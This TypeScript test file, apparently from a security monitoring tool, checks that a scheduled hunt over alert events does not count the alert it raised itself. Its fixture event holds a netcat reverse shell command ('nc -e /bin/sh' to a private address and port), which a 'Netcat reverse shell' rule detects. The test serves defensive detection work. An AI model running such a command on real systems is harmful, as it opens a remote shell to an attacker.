// Scheduled hunts over alert events: a hunt counts the alerts of other rules, never the alerts it raised itself
// (otherwise each run would feed the next one and a threshold of 1 would alert forever).
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Detection } from '@vigil/detect';
import type { VigilEvent } from '@vigil/schema';
import { createDuckDbStore, type EventStore } from '@vigil/store';
import { createAlertEventWriter, type AlertEventWriter } from '../detection/alert-events.js';
import { DetectionDb } from '../detection/detection-db.js';
import { createHuntService, type HuntService } from './hunt-service.js';

const HOST = 'db-01';
let dir: string;
let store: EventStore;
let detectionDb: DetectionDb;
let writer: AlertEventWriter;
let hunts: HuntService;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-hunt-service-'));
  store = createDuckDbStore({ dataDir: join(dir, 'events'), ack: 'journal', threads: 1 });
  await store.open();
  detectionDb = new DetectionDb(join(dir, 'detection.sqlite'));
  writer = createAlertEventWriter({ store });
  detectionDb.onCreated((created) => writer.alertsCreated(created));
  hunts = createHuntService({ file: join(dir, 'hunts.sqlite'), store, detectionDb, tickMs: 3_600_000 });
});

after(async () => {
  hunts.close();
  await writer.close();
  detectionDb.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

test('a scheduled hunt over high alerts counts the Sigma alert but not the alert it raised itself', async () => {
  const time = new Date(Date.now() - 60_000).toISOString();
  const event = {
    '@timestamp': time, 'event.id': randomUUID(), 'event.sequence': 1, 'event.category': 'process', 'event.action': 'start',
    'host.id': HOST, 'host.name': 'db-01.example', 'process.pid': 4242, 'process.executable': '/usr/bin/nc', 'process.name': 'nc', 'process.args': ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'],
  };
  await store.append(HOST, [event] as unknown as VigilEvent[]);
  const detection: Detection = { rule: { id: 'sigma-reverse-shell', title: 'Netcat reverse shell', level: 'high', tags: ['attack.t1059'] }, kind: 'sigma', hostId: HOST, eventIds: [event['event.id']], time, fields: [] };
  detectionDb.storeDetections([detection]);
  await writer.flush();

  const saved = hunts.save({ name: 'high alerts', description: '', query: 'alert where alert.level == "high"', intervalSeconds: 300, threshold: 1, level: 'high', tags: [], enabled: true }, 'admin');
  const since = new Date(Date.now() - 3_600_000).toISOString();
  const first = await hunts.runSaved(saved.id, since);
  assert.deepEqual(first, { rows: 1, alerted: true });
  await writer.flush();
  // The hunt's own alert is a high alert event too: queryable, but left out of the hunt's own runs.
  const all = await hunts.run({ query: 'alert where alert.level == "high" | stats count() by rule.id', start: since });
  assert.deepEqual(Object.fromEntries(all.rows.map((r) => [r['rule.id'], Number(r['count()'] ?? r.count)])), { 'sigma-reverse-shell': 1, [`hunt:${saved.id}`]: 1 });
  const second = await hunts.runSaved(saved.id, since);
  assert.deepEqual(second, { rows: 1, alerted: true });
  assert.equal(detectionDb.listAlerts({ ruleId: `hunt:${saved.id}` }).length, 1, 'the second run grouped into the same alert');
});
